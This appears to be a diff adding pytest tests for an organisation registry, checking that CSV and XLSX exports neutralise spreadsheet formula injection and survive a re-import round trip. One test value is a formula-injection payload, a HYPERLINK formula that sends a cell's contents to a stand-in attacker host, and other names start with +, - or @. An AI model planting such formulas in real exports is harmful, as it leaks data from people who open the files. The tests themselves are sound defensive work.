@@ -1,5 +1,9 @@
 """Organisation files: all or nothing, every bad row reported, re-import updates, round trip."""
 
+import csv
+import io
+
+import openpyxl
 import pytest
 import sqlalchemy as sa
 from sqlalchemy.orm import Session
@@ -133,3 +137,62 @@ def test_export_csv_has_documented_header_and_cells(session: Session) -> None:
         "111111111,Sofia Robotics,,sme,yes,,BG,BG411,,,,,,,,,digital; electronics,"
         "robotics; welding,,222222222,transition,less_developed,import"
     )
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def _hostile_registry(session: Session) -> None:
+    make_organisation(session, name=HOSTILE, pic="333333333")
+    make_organisation(session, name="'t Hooft Engineering", pic="444444444")
+    make_organisation(session, name="Twin Labs", pic="555555555")
+    make_organisation(session, name="Twin Labs", pic="666666666")
+    make_organisation(session, name="Twin Labs", country="FR", nuts="FR101")
+    make_organisation(session, name="Twin Labs", country="BE", nuts="BE100")
+    carol = make_organisation(session, name="+Carol & Co", pic="777777777")
+    carol.short_name = "-CAROL-"
+    carol.description = "@attention\tand -5 more"
+    carol.latitude = -3.5
+    session.flush()
+    # An import derives the region categories the factory leaves out.
+    settle = export_organisations(session, file_format=FileFormat.XLSX)
+    import_organisations(session, settle, file_format=FileFormat.XLSX)
+
+
+def test_a_csv_export_writes_no_cell_as_a_formula(session: Session) -> None:
+    _hostile_registry(session)
+
+    exported = export_organisations(session, file_format=FileFormat.CSV).decode()
+    cells = list(csv.reader(io.StringIO(exported, newline="")))
+    names = sorted(row[1] for row in cells[1:])
+
+    assert names == sorted(
+        ["'" + HOSTILE, "''t Hooft Engineering", "'+Carol & Co", *["Twin Labs"] * 4]
+    )
+    carol = next(row for row in cells if row[0] == "777777777")
+    assert (carol[2], carol[9], carol[15]) == ("'-CAROL-", "-3.5", "'@attention\tand -5 more")
+
+
+def test_an_xlsx_export_holds_text_cells_never_formulas(session: Session) -> None:
+    _hostile_registry(session)
+
+    exported = export_organisations(session, file_format=FileFormat.XLSX)
+    sheet = openpyxl.load_workbook(io.BytesIO(exported)).worksheets[0]
+    names = {cell.value: cell.data_type for cell in sheet["B"][1:]}
+
+    assert names[HOSTILE] == "s"
+    assert set(names.values()) == {"s"}
+
+
+@pytest.mark.parametrize("file_format", [FileFormat.CSV, FileFormat.XLSX])
+def test_hostile_names_export_and_import_back_unchanged(
+    session: Session, file_format: FileFormat
+) -> None:
+    _hostile_registry(session)
+    before = export_organisations(session, file_format=FileFormat.CSV)
+
+    exported = export_organisations(session, file_format=file_format)
+    summary = import_organisations(session, exported, file_format=file_format)
+
+    assert summary == ImportSummary(created=0, updated=0, unchanged=7)
+    assert export_organisations(session, file_format=FileFormat.CSV) == before
